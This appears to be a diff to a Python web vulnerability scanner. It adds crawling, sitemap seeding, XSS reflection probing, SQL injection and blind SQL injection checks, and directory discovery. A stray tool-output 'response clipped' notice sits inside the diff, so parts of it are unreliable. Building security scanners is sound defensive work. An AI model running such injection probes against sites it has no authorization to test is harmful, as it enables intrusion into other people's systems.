+            pending = collections.deque(dict.fromkeys(frontier))
+            deferred = []
+            
+            # Fetch each level concurrently in bounded chunks, then process pages in order
+            with ThreadPoolExecutor(max_workers=self.threads) as executor:
+                while pending or deferred:
+                    # Leave most of the budget for the checks themselves
+                    if self.budget_exhausted(CRAWL_BUDGET_SHARE):
+                        self.log("Crawl budget used up, moving on to checks", "WARNING")
+                        return False
+                    if not pending:
+                        # Only undecided template variants are left; let them through
+                        pending.extend(deferred)
+                        deferred = None
+                    chunk = []
+                    in_chunk = collections.Counter()
+                    while pending and len(chunk) < self.threads * 4:
+                        page_url = pending.popleft()
+                        pattern = url_pattern(page_url)
+                        # Skip URLs already fetched and variants of patterns known to be template pages
+                        if page_url in self.visited or pattern in self.template_patterns:
+                            continue
+                        # Probe a URL pattern with two pages before fetching the rest of its variants
+                        if deferred is not None and len(self.pattern_signatures.get(pattern, ())) < 2 \
+                                and self.pattern_counts.get(pattern, 0) + in_chunk[pattern] >= 2:
+                            deferred.append(page_url)
+                            continue
+                        in_chunk[pattern] += 1
+                        self.visited.add(page_url)
+                        self.log(f"Crawling: {page_url}")
+                        chunk.append(page_url)
+                        
+                    fetched = list(executor.map(self.fetch_page, chunk))
+                    parsed = self.parse_pages(fetched, parse_pool)
+                    for page_url, (response, cached), extracted in zip(chunk, fetched, parsed):
+                        links = self.process_page(page_url, response, cached, extracted)
+                        if level < depth - 1:
+                            next_frontier.extend(link for link in links if link not in self.visited)
+                            
+                    if deferred is None:
+                        deferred = []
+                        
+            frontier = next_frontier
+        return True
+            
+    def parse_pages(self, fetched, parse_pool):
+        """Parse freshly fetched pages in the process pool; None leaves a page to process_page"""
+        parsed = [None] * len(fetched)
+        if parse_pool is None:
+            return parsed
+        jobs = [index for index, (response, cached) in enumerate(fetched) if response and not cached]
+        if not jobs:
+            return parsed
+        responses = [fetched[index][0] for index in jobs]
+        results = parse_pool.map(parse_page,
+                                 [response.content for response in responses],
+                                 [response.encoding for response in responses],
+                                 [str(response.url) for response in responses],
+                                 [self.target_url] * len(jobs),
+                                 chunksize=max(1, len(jobs) // (self.parse_workers * 4)))
+        for index, extracted in zip(jobs, results):
+            parsed[index] = extracted
+        return parsed
+        
+    def process_page(self, url, response, cached, extracted=None):
+        """Record the forms and links of a fetched page and return its links"""
+        if self.passive and response is not None:
+            self.passive.observe(url, response)
+        if self.store and response is not None:
+            self.store.add_url(url, response.status_code)
+        if not response:
+            return set()
+            
+        if cached:
+            # Unchanged since the last scan, so reuse what was extracted then
+            signature = cached['signature']
+            forms = cached['forms']
+            links = set(cached['links'])
+        else:
+            extracted = extracted or parse_page(response.content, response.encoding,
+                                                str(response.url), self.target_url)
+            signature = extracted['signature']
+            forms = extracted['forms']
+            links = set(extracted['links'])
+            if self.cache:
+                self.cache.store(self.cache_key(url), url, response, extracted)
+            
+        # Pages with an identical DOM structure are the same template with different data
+        pattern = url_pattern(url)
+        self.pattern_counts[pattern] = self.pattern_counts.get(pattern, 0) + 1
+        self.pattern_signatures.setdefault(pattern, set()).add(signature)
+        
+        # Two variants of a pattern rendering the same structure mark it as a template
+        if self.pattern_counts[pattern] > 1 and len(self.pattern_signatures[pattern]) == 1:
+            self.template_patterns.add(pattern)
+        
+        # Only variants of a known template are collapsed; other pages are kept whatever they look like
+        if signature is not None:
+            first = self.page_signatures.setdefault((pattern, signature), url)
+            if first != url and pattern in self.template_patterns:
+                self.log(f"Skipping {url}: same structure as {first}")
+                return set()
+        
+        # Add forms to the list (or only the store), using a signature set instead of comparing dicts
+        for form in forms:
+            key = form_signature(form)
+            if key not in self.form_signatures:
+                self.form_signatures.add(key)
+                if self.store:
+                    self.store.add_form(form)
+                else:
+                    self.forms.append(form)
                     
+        # Add links to the set, or only the store, which ignores ones it already has
+        if self.store:
+            for link in links:
+                self.store.add_url(link)
+        else:
+            self.links.update(links)
         return links
         
-    def crawl(self, url=None, depth=1):
-        """Crawl the website to discover content"""
-        if not url:
-            url = self.target_url
+    def discover_seeds(self):
+        """Collect crawl seeds from robots.txt and the sitemaps it lists (or /sitemap.xml)"""
+        base_url = '/'.join(self.target_url.split('/')[:3])
+        host = urllib.parse.urlparse(self.target_url).netloc.lower()
+        seeds = []
+        sitemaps = []
+        
+        response = self.request(base_url + '/robots.txt')
+        if response is not None and response.status_code == 200:
+            for line in response.text.splitlines():
+                field, _, value = line.partition(':')
+                field = field.strip().lower()
+                value = value.split('#')[0].strip()
+                if field == 'sitemap' and value:
+                    sitemaps.append(value.strip())
+                elif field in ('allow', 'disallow') and value.startswith('/') and '*' not in value and '$' not in value:
+                    # Paths listed in robots.txt are often the interesting ones
+                    seeds.append(base_url + value)
+                    
+        if not sitemaps:
+            sitemaps.append(base_url + '/sitemap.xml')
             
-        self.log(f"Crawling: {url}")
-        response = self.request(url)
+        seen_sitemaps = set()
+        while sitemaps and len(seen_sitemaps) < MAX_SITEMAPS and len(seeds) < MAX_SEEDS:
+            sitemap = sitemaps.pop(0)
+            if sitemap in seen_sitemaps:
+                continue
+            seen_sitemaps.add(sitemap)
+            for kind, loc in self.parse_sitemap(sitemap):
+                if kind == 'sitemap':
+                    sitemaps.append(loc)
+                else:
+                    seeds.append(loc)
+                    if len(seeds) >= MAX_SEEDS:
+                        break
+                        
+        # Only seed pages on the target host
+        seeds = [seed for seed in dict.fromkeys(seeds)
+                 if urllib.parse.urlparse(seed).netloc.lower() == host]
+        self.log(f"Seeded {len(seeds)} URLs from robots.txt and {len(seen_sitemaps)} sitemaps")
+        return seeds
         
-        if not response:
+    def parse_sitemap(self, url):
+        """Stream-parse a sitemap or sitemap index, yielding ('url' | 'sitemap', loc) pairs"""
+        response = self.request(url, stream=True)
+        if response is None:
             return
+        try:
+            if response.status_code != 200:
+                return
+            decompressor = None
+            parser = ElementTree.XMLPullParser(events=('start', 'end'))
+            stack = []
             
-        # Extract forms and links
-        forms = self.extract_forms(response)
-        links = self.extract_links(response)
+            chunks = response.iter_content(BODY_CHUNK_SIZE) if hasattr(response, 'iter_content') \
+                else response.iter_bytes(BODY_CHUNK_SIZE)
+            for index, chunk in enumerate(chunks):
+                # .xml.gz sitemaps arrive still compressed; spot them by their magic bytes
+                if index == 0 and chunk[:2] == b'\x1f\x8b':
+                    decompressor = zlib.decompressobj(16 + zlib.MAX_WBITS)
+                parser.feed(decompressor.decompress(chunk) if decompressor else chunk)
+                for event, element in parser.read_events():
+                    tag = element.tag.rsplit('}', 1)[-1]
+                    if event == 'start':
+                        stack.append(tag)
+                        continue
+                    stack.pop()
+                    if tag == 'loc' and stack and element.text:
+                        yield ('sitemap' if stack[-1] == 'sitemap' else 'url'), element.text.strip()
+                    # Drop finished elements so memory stays flat on large sitemaps
+                    element.clear()
+        except (ElementTree.ParseError, zlib.error, requests.exceptions.RequestException) as e:
+            self.log(f"Error parsing sitemap {url}: {e}", "ERROR")
+        finally:
+            response.close()
+            
+    def send_params(self, url, method, values):
+        """Send values as query parameters for GET or form data otherwise"""
+        if method == "GET":
+            return self.request(url, method=method, params=values)
+        return self.request(url, method=method, data=values)
         
-        # Add forms to the list
-        for form in forms:
-            if form not in self.forms:
-                self.forms.append(form)
-                
-        # Add links to the set
-        self.links.update(links)
+    def probe_reflections(self, url, fields, method, targets):
+        """Send a unique canary in every target field at once and map where each is reflected"""
+        canaries = {}
+        probe = fields.copy()
+        for param in targets:
+            canary = 'xq' + '%08x' % random.getrandbits(32)
+            canaries[canary] = param
+            probe[param] = canary + XSS_PROBE_CHARS
+            
+        response = self.send_params(url, method, probe)
+        if response is None:
+            return {}
+        return find_reflections(response.text, canaries)
         
-        # Recursively crawl links up to the specified depth
-        if depth > 1:
-            for link in links:
-                if link not in self.links:
-                    self.crawl(link, depth - 1)
-                    
-    def check_xss_vulnerability(self, url, params=None, data=None, method="GET"):
-        """Check for XSS vulnerabilities"""
-        for payload in XSS_PAYLOADS:
-            if params:
-                # Test each parameter
-                for param in params:
-                    test_params = params.copy()
-                    test_params[param] = payload
+    def check_xss_vulnerability(self, url, params=None, data=None, method="GET", targets=None):
+        """Check for XSS vulnerabilities in targets (default: every field), passing other fields through"""
+        for fields in (params, data):
+            if not fields:
+                continue
+                
+            # Only parameters that are reflected get payloads, and only ones that fit the context
+            reflections = self.probe_reflections(url, fields, method, list(fields) if targets is None else targets)
+            candidates = {}
+            contexts = {}
+            for param, hits in reflections.items():
+                contexts[param] = ', '.join(sorted({context for context, raw in hits}))
+                candidates[param] = select_xss_payloads(hits)
+                self.log(f"Parameter {param} at {url} is reflected in {contexts[param]} context")
+                
+            # Each round sends the next candidate payload for every reflected parameter in one request,
+            # tagged per parameter so a reflection can be attributed
+            for round_number in range(max((len(payloads) for payloads in candidates.values()), default=0)):
+                test_fields = fields.copy()
+                sent = {}
+                for index, (param, payloads) in enumerate(candidates.items()):
+                    if round_number < len(payloads):
+                        sent[param] = payloads[round_number].replace('XSS', f'XSS{index}')
+                        test_fields[param] = sent[param]
+                if not sent:
+                    break
                     
-                    response = self.request(url, method=method, params=test_params if method == "GET" else None, 
-                                           data=test_params if method == "POST" else None)
+                response = self.send_params(url, method, test_fields)
+                if response is None:
+                    continue
                     
-                    if response and payload in response.text:
+                for param, payload in sent.items():
+                    if payload in response.text:
                         self.log(f"Potential XSS found at {url} with parameter {param}", "VULN")
                         self.vulnerabilities.append({
                             'type': 'XSS',
@@ -391,40 +2048,417 @@ class WebVulnScanner:
                             'method': method,
                             'parameter': param,
                             'payload': payload,
-                            'evidence': f"Payload was reflected in the response"
+                            'evidence': f"Payload was reflected unencoded in {contexts[param]} context"
                         })
+                        # Confirmed, so stop sending payloads to this parameter
+                        candidates[param] = []
+                        
+    def find_sqli_parameters(self, url, method, fields, params, payload):
+        """Inject payload into all params at once and bisect on an SQL error to find the culprits"""
+        test_fields = fields.copy()
+        for param in params:
+            test_fields[param] = payload
             
-            if data:
-                # Test each parameter in form data
-                for param in data:
-                    test_data = data.copy()
-                    test_data[param] = payload
-                    
-                    response = self.request(url, method=method, data=test_data)
+        response = self.send_params(url, method, test_fields)
+        match = match_sql_error(response.text) if response is not None else None
+        if not match:
+            return []
+        if len(params) == 1:
+            return [(params[0], match)]
+            
+        middle = len(params) // 2
+        found = (self.find_sqli_parameters(url, method, fields, params[:middle], payload) +
+                 self.find_sqli_parameters(url, method, fields, params[middle:], payload))
+        # The error only appears with several parameters injected together
+        return found or [(', '.join(params), match)]
+        
+    def check_sqli_vulnerability(self, url, params=None, data=None, method="GET", targets=None):
+        """Check for SQL Injection vulnerabilities in targets (default: every field), passing other fields through"""
+        for fields in (params, data):
+            if not fields:
+                continue
+                
+            # A page that shows an SQL error without any payload can't be tested this way
+            baseline = self.send_params(url, method, fields)
+            if baseline is not None and match_sql_error(baseline.text):
+                self.log(f"Skipping SQL Injection checks on {url}: SQL error present without a payload", "WARNING")
+                continue
+                
+            # One request per payload covers every parameter; only a signal costs extra requests
+            remaining = list(fields) if targets is None else list(targets)
+            for payload in SQLI_PAYLOADS:
+                if not remaining:
+                    break
+                for param, (dbms, evidence) in self.find_sqli_parameters(url, method, fields, remaining, payload):
+                    self.log(f"Potential SQL Injection ({dbms}) found at {url} with parameter {param}", "VULN")
+                    self.vulnerabilities.append({
+                        'type': 'SQL Injection',
+                        'url': url,
+                        'method': method,
+                        'parameter': param,
+                        'payload': payload,
+                        'evidence': f"{dbms} error message in response: {evidence}"
+                    })
+                    remaining = [name for name in remaining if name not in param.split(', ')]
                     
-                    if response and payload in response.text:
-                        self.log(f"Potential XSS found at {url} with parameter {param}", "VULN")
-                        self.vulnerabilities.append({
-                            'type': 'XSS',
-                            'url': url,
-                            'method': method,
-                            'parameter': param,
-                            'payload': payload,
-                            'evidence': f"Payload was reflected in the response"
-                        })
-                        
-    def check_sqli_vulnerability(self, url, params=None, data=None, method="GET"):
-        """Check for SQL Injection vulnerabilities"""
-        # SQL error patterns to look for
-        sql_errors = [
-            "SQL syntax.*MySQL", "Warning.*mysql_.*", "valid MySQL result", "MySqlClient\\.",
-            "PostgreSQL.*ERROR", "Warning.*pg_.*", "valid PostgreSQL result", "Npgsql\\.",
-            "Driver.* SQL[-_ ]*Server", "OLE DB.* SQL Server", "\\bSQL Server.*Driver", "Warning.*mssql_.*",
-            "\\bSQL Server.*[0-9a-fA-F]{8}", "(?i)Microsoft Access Driver", "JET Database Engine", "Access Database Engine",
-            "ODBC.*Driver.*\\b(SQL Server|Oracle|MySQL|PostgreSQL|SQLite)", "\\bORA-[0-9][0-9][0-9][0-9]", "Oracle error",
-            "Oracle.*Driver", "Warning.*oci_.*", "Warning.*ora_.*",
-            "CLI Driver.*DB2", "DB2 SQL error", "\\bdb2_\\w+\\(",
-            "SQLite/JDBCDriver", "SQLite.Exception", "System.Data.SQLite.SQLiteException", "Warning.*sqlite_.*",
-            "Warning.*SQLite3::", "\\[SQLITE_ERROR\\]",
-            "Syntax error or access violation", "Unexpected end of SQL command", "Error in query syntax"
-<response clipped><NOTE>To save on context only part of this file has been shown to you. You should retry this tool after you have searched inside the file with `grep -n` in order to find the line numbers of what you are looking for.</NOTE>
\ No newline at end of file
+    def check_directories(self):
+        """Check for common sensitive directories and files"""
+        discovery = ContentDiscovery(self, wordlist=self.wordlist)
+        discovery.run()
+        
+    def get_form_data(self, form):
+        """Build a parameter dict from a form's inputs, and list the fields that take payloads"""
+        data = {}
+        targets = []
+        for input_field in form['inputs']:
+            if input_field['type'].lower() in PASSTHROUGH_INPUT_TYPES:
+                data[input_field['name']] = input_field['value']
+            else:
+                data[input_field['name']] = input_field['value'] or 'test'
+                targets.append(input_field['name'])
+        return data, targets
+        
+    def get_url_params(self, url):
+        """Split a URL into its base and query parameters"""
+        parsed = urllib.parse.urlparse(url)
+        params = dict(urllib.parse.parse_qsl(parsed.query))
+        base = urllib.parse.urlunparse(parsed._replace(query='', fragment=''))
+        return base, params
+        
+    def run_scan(self, depth=2):
+        """Run the vulnerability scan"""
+        start_time = self.start_time = time.time()
+        
+        print(f"\n[*] Starting scan on {self.target_url}")
+        
+        if self.store:
+            if self.resume and self.store.resume(self.target_url):
+                print(f"[*] Resuming scan {self.store.scan_id} from {self.store_path()}")
+            else:
+                self.store.start(self.target_url)
+                
+        if self.store and self.store.crawl_done:
+            self.completed_checks = self.store.checks()
+            links, forms, findings = self.store.counts()
+            print(f"[+] Loaded {links} links, {forms} forms and {findings} findings; "
+                  f"{len(self.completed_checks)} checks already done")
+        else:
+            # Crawl the target to discover forms and links
+            print("[*] Crawling target...")
+            seeds = self.discover_seeds() if self.seed_sitemaps else []
+            crawled = self.crawl(depth=depth, seeds=seeds)
+            links, forms, _ = self.store.counts() if self.store else (len(self.links), len(self.forms), None)
+            print(f"[+] Discovered {links} links and {forms} forms")
+            if self.passive:
+                print(f"[+] Passive checks: {len(self.passive.findings)} issues across {self.passive.observed} responses")
+            # A crawl cut short is redone on resume, so it is only marked done once the frontier was drained
+            if self.store and crawled and not self.stop_reason:
+                self.save_progress()
+                self.store.set_crawl_done()
+        
+        # Links with query strings are tested as GET parameters, one link per URL pattern
+        representatives = {}
+        for link in self.iter_links():
+            if '?' in link:
+                representatives.setdefault(url_pattern(link), link)
+        param_links = list(representatives.values())
+        forms = list(self.iter_forms())
+        
+        # In incremental mode only inputs that are new or changed since the previous report get payloads
+        current = build_inventory(forms, representatives.values())
+        previous = {}
+        if self.since:
+            previous = self.load_inventory(self.since)
+            changed = {key for key, fingerprint in current.items() if previous.get(key) != fingerprint}
+            forms = [form for form in forms if form_inventory_key(form) in changed]
+            param_links = [link for link in param_links if link_inventory_key(link) in changed]
+            print(f"[*] Incremental scan since {self.since}: {len(changed)} of {len(current)} inputs new or changed")
+        
+        # Every check goes through one priority queue so a cut-short scan has run the most valuable ones
+        scheduler = ScanScheduler(self)
+        inputs = [(form_inventory_key(form), form['action'], form['method'], *self.get_form_data(form),
+                   input_priority(form)) for form in forms]
+        for link in param_links:
+            url, params = self.get_url_params(link)
+            inputs.append((link_inventory_key(link), url, "GET", params, list(params),
+                           input_priority({'action': url, 'method': "GET", 'inputs': []})))
+        blind_detector = BlindSQLiDetector(self)
+        # Timing checks run afterwards, once their baselines are measured without other scan traffic
+        blind_scheduler = ScanScheduler(self)
+        
+        # Check names carry the inventory key, so forms posting to the same action stay apart on resume
+        # and afterwards tell which inputs were fully tested
+        input_checks = collections.defaultdict(list)
+        for key, url, method, fields, targets, priority in inputs:
+            if self.check_sqli:
+                name = f"SQL Injection {key}"
+                input_checks[key].append(name)
+                scheduler.add(CHECK_PRIORITIES['sqli'] + priority, name,
+                              self.test_input, self.check_sqli_vulnerability, url, method, fields, targets)
+            if self.check_xss:
+                name = f"XSS {key}"
+                input_checks[key].append(name)
+                scheduler.add(CHECK_PRIORITIES['xss'] + priority, name,
+                              self.test_input, self.check_xss_vulnerability, url, method, fields, targets)
+            if self.check_blind_sqli:
+                name = f"blind SQL Injection {key}"
+                input_checks[key].append(name)
+                blind_scheduler.add(CHECK_PRIORITIES['blind_sqli'] + priority, name,
+                                    blind_detector.test_endpoint, (url, method, fields, targets))
+        if self.check_dirs:
+            scheduler.add(CHECK_PRIORITIES['dirs'], "sensitive directories", self.check_directories)
+            
+        print(f"[*] Running {len(scheduler.tasks) + len(blind_scheduler.tasks)} checks...")
+        try:
+            scheduler.run()
+            if blind_scheduler.tasks:
+                # Baselines are taken one endpoint at a time, most valuable first; the probes then run in
+                # parallel across endpoints, each endpoint's own probes staying sequential
+                print(f"[*] Measuring latency baselines for {len(blind_scheduler.tasks)} blind SQL injection checks...")
+                blind_detector.calibrate_all(args[0] for *_, args in sorted(blind_scheduler.tasks))
+                blind_scheduler.run()
+        finally:
+            # Whatever finished before an interruption is kept for --resume
+            if self.store:
+                self.save_progress()
+                self.store.flush()
+        self.skipped_checks = scheduler.skipped + blind_scheduler.skipped
+        
+        # Only inputs whose checks all ran are recorded, so a cut-short scan leaves the rest for next time;
+        # inputs an incremental scan left alone keep the fingerprint they were tested with
+        done = scheduler.completed | blind_scheduler.completed | self.completed_checks
+        self.inventory = {key: fingerprint for key, fingerprint in current.items()
+                          if previous.get(key) == fingerprint
+                          or (input_checks.get(key) and all(name in done for name in input_checks[key]))}
+        
+        self.scan_duration = time.time() - start_time
+        
+        if self.store:
+            if not self.stop_reason:
+                self.store.finish()
+            print(f"[+] Scan {self.store.scan_id} recorded in {self.store_path()}")
+        
+        if self.cache:
+            print(f"[+] Response cache: {self.cache.hits} pages unchanged, {self.cache.misses} fetched")
+            self.cache.close()
+        
+        self.display_results()
+        
+        if self.output:
+            self.save_results()
+            
+        # Results are read back from the store, so it stays open until they are reported
+        if self.store:
+            self.store.close()
+            
+    def test_input(self, check, url, method, fields, targets):
+        """Run an injection check on targets, with fields sent as form data for POST and query parameters otherwise"""
+        # A form holding only tokens and buttons has nothing to inject into
+        if not targets:
+            return
+        if method == "POST":
+            check(url, data=fields, method="POST", targets=targets)
+        else:
+            check(url, params=fields, targets=targets)
+            
+    def store_path(self):
+        """File behind the scan store"""
+        return self.store.db.execute("PRAGMA database_list").fetchone()[2]
+        
+    def save_progress(self, check=None):
+        """Move findings into the store, and mark check complete"""
+        if not self.store:
+            return
+        with self.progress_lock:
+            # Checks may append while this runs; only the findings counted here are written and dropped
+            count = len(self.vulnerabilities)
+            for vuln in self.vulnerabilities[:count]:
+                self.store.add_finding(vuln)
+            del self.vulnerabilities[:count]
+            if check:
+                self.store.add_check(check)
+                
+    def iter_links(self):
+        """Yield discovered links in order, from the store when there is one"""
+        return self.store.iter_urls() if self.store else iter(sorted(self.links))
+        
+    def iter_forms(self):
+        """Yield discovered forms, from the store when there is one"""
+        return self.store.iter_forms() if self.store else iter(self.forms)
+        
+    def iter_findings(self):
+        """Yield findings, from the store when there is one"""
+        if self.store:
+            self.save_progress()
+            return self.store.iter_findings()
+        return iter(self.vulnerabilities)
+        
+    def budget_exhausted(self, share=1.0):
+        """Return why the scan must stop (request budget or time limit), or None"""
+        if self.max_requests and self.requests_sent >= self.max_requests * share:
+            return "request budget"
+        if self.max_time and time.time() - self.start_time >= self.max_time * share:
+            return "time limit"
+        return None
+        
+    def load_inventory(self, report_path):
+        """Load the input inventory from a previous JSON report"""
+        try:
+            with open(report_path) as f:
+                report = json.load(f)
+        except (OSError, ValueError) as e:
+            print(f"[!] Error loading previous report: {e}")
+            return {}
+        # Reports written before the inventory was saved can still be diffed from their forms and links
+        if 'inventory' in report:
+            return report['inventory']
+        return build_inventory(report.get('forms', []), report.get('links', []))
+        
+    def display_results(self):
+        """Display scan results"""
+        print("\n" + "="*60)
+        print(f"Scan Results for {self.target_url}")
+        print("="*60)
+        print(f"Scan completed in: {self.scan_duration:.2f} seconds")
+        found = self.store.counts()[2] if self.store else len(self.vulnerabilities)
+        print(f"Vulnerabilities found: {found}")
+        if self.stop_reason:
+            print(f"Stopped early: {self.stop_reason} reached, {self.skipped_checks} checks not run")
+        if not self.http2_client:
+            stats = self.connection_stats()
+            print(f"Requests: {stats['requests']} over {stats['connections']} connections "
+                  f"({stats['reuse_ratio']:.0%} keep-alive reuse)")
+        print("-"*60)
+        
+        if found:
+            for vuln in self.iter_findings():
+                print(f"[{vuln['type']}] {vuln['method']} {vuln['url']}")
+                if vuln['parameter']:
+                    print(f"    Parameter: {vuln['parameter']}")
+                if vuln['payload']:
+                    print(f"    Payload: {vuln['payload']}")
+                print(f"    Evidence: {vuln['evidence']}")
+                if vuln.get('occurrences', 1) > 1:
+                    print(f"    Seen on {vuln['occurrences']} responses")
+        else:
+            print("No vulnerabilities found.")
+            
+        print("="*60)
+        
+    def save_results(self):
+        """Save results to file"""
+        results = {
+            'target': self.target_url,
+            'timestamp': time.strftime("%Y-%m-%d %H:%M:%S", time.localtime()),
+            'scan_duration': f"{self.scan_duration:.2f} seconds",
+            'links': list(self.iter_links()),
+            'forms': list(self.iter_forms()),
+            'inventory': self.inventory,
+            'vulnerabilities': list(self.iter_findings())
+        }
+        if self.since:
+            results['since'] = self.since
+        results['requests_sent'] = self.requests_sent
+        if self.store:
+            results['scan_id'] = self.store.scan_id
+        if self.stop_reason:
+            results['stopped_early'] = self.stop_reason
+            results['skipped_checks'] = self.skipped_checks
+        if not self.http2_client:
+            results['connection_stats'] = self.connection_stats()
+        try:
+            with open(self.output, 'w') as f:
+                json.dump(results, f, indent=4)
+            print(f"[+] Results saved to {self.output}")
+        except Exception as e:
+            print(f"[!] Error saving results: {e}")
+
+def main():
+    """Main function"""
+    parser = argparse.ArgumentParser(description="Web Vulnerability Scanner")
+    parser.add_argument("url", help="Target URL")
+    parser.add_argument("-c", "--cookies", help="Cookies (e.g., 'name1=value1; name2=value2')")
+    parser.add_argument("-H", "--headers", help="Custom headers separated by newlines")
+    parser.add_argument("-t", "--timeout", type=float, default=10, help="Request timeout in seconds (default: 10)")
+    parser.add_argument("-T", "--threads", type=int, default=10, help="Number of threads (default: 10)")
+    parser.add_argument("-d", "--depth", type=int, default=2, help="Crawl depth (default: 2)")
+    parser.add_argument("-v", "--verbose", action="store_true", help="Verbose output")
+    parser.add_argument("-o", "--output", help="Output file (JSON format)")
+    parser.add_argument("--no-xss", action="store_true", help="Skip XSS checks")
+    parser.add_argument("--no-sqli", action="store_true", help="Skip SQL injection checks")
+    parser.add_argument("--blind-sqli", action="store_true", help="Also test for time-based blind SQL injection")
+    parser.add_argument("--no-dirs", action="store_true", help="Skip directory checks")
+    parser.add_argument("-w", "--wordlist", help="Wordlist for directory checks (default: built-in list)")
+    parser.add_argument("--no-headers", action="store_true", help="Skip passive header, cookie, CORS and CSP checks")
+    parser.add_argument("--pool-connections", type=int, default=10, help="Number of hosts to keep connection pools for (default: 10)")
+    parser.add_argument("--pool-size", type=int, help="Keep-alive connections per host (default: number of threads)")
+    parser.add_argument("--max-body-size", type=int, default=MAX_BODY_SIZE // 1024, help="Maximum response body to read in KB (default: 1024)")
+    parser.add_argument("--cache", help="Response cache file, reused across scans for conditional requests")
+    parser.add_argument("--cache-max-size", type=int, default=CACHE_MAX_SIZE // (1024 * 1024), help="Maximum cache size in MB (default: 256)")
+    parser.add_argument("--cache-max-age", type=float, default=CACHE_MAX_AGE / 86400, help="Maximum age of cached pages in days (default: 7)")
+    parser.add_argument("--max-requests", type=int, help="Stop after this many requests in total")
+    parser.add_argument("--max-time", type=float, help="Stop after this many seconds")
+    parser.add_argument("--parse-workers", type=int, default=0, help="Parse HTML in this many worker processes (default: 0, parse in-process)")
+    parser.add_argument("--store", help="SQLite file recording URLs, forms, requests and findings of every scan")
+    parser.add_argument("--resume", action="store_true", help="Continue the last unfinished scan of the target in --store")
+    parser.add_argument("--history", action="store_true", help="List findings for the target from all scans in --store and exit")
+    parser.add_argument("--no-sitemap", action="store_true", help="Don't seed the crawl from robots.txt and sitemaps")
+    parser.add_argument("--since", metavar="REPORT", help="Previous JSON report; only test inputs that are new or changed since then")
+    parser.add_argument("--http2", action="store_true", help="Use HTTP/2 multiplexing (requires httpx[http2])")
+    
+    args = parser.parse_args()
+    
+    print(BANNER)
+    
+    if (args.resume or args.history) and not args.store:
+        print("[!] Error: --resume and --history need --store")
+        sys.exit(1)
+        
+    if args.history:
+        store = ScanStore(args.store)
+        for scan_id, started, vuln in store.history(WebVulnScanner.normalize_url(args.url)):
+            started = time.strftime("%Y-%m-%d %H:%M:%S", time.localtime(started))
+            print(f"[scan {scan_id}, {started}] [{vuln['type']}] {vuln['method']} {vuln['url']}"
+                  + (f" ({vuln['parameter']})" if vuln['parameter'] else "")
+                  + (f", seen on {vuln['occurrences']} responses" if vuln.get('occurrences', 1) > 1 else ""))
+        store.close()
+        return
+        
+    scanner = WebVulnScanner(
+        target_url=args.url,
+        cookies=args.cookies,
+        headers=args.headers,
+        timeout=args.timeout,
+        threads=args.threads,
+        verbose=args.verbose,
+        output=args.output,
+        check_xss=not args.no_xss,
+        check_sqli=not args.no_sqli,
+        check_blind_sqli=args.blind_sqli,
+        check_dirs=not args.no_dirs,
+        check_headers=not args.no_headers,
+        pool_connections=args.pool_connections,
+        pool_maxsize=args.pool_size,
+        http2=args.http2,
+        wordlist=args.wordlist,
+        max_body_size=args.max_body_size * 1024,
+        cache=args.cache,
+        cache_max_size=args.cache_max_size * 1024 * 1024,
+        cache_max_age=args.cache_max_age * 86400,
+        since=args.since,
+        seed_sitemaps=not args.no_sitemap,
+        max_requests=args.max_requests,
+        max_time=args.max_time,
+        parse_workers=args.parse_workers,
+        store=args.store,
+        resume=args.resume
+    )
+    
+    scanner.run_scan(depth=args.depth)
+
+if __name__ == "__main__":
+    try:
+        main()
+    except KeyboardInterrupt:
+        print("\n[!] Scan interrupted by user. Exiting...")
+        sys.exit(0)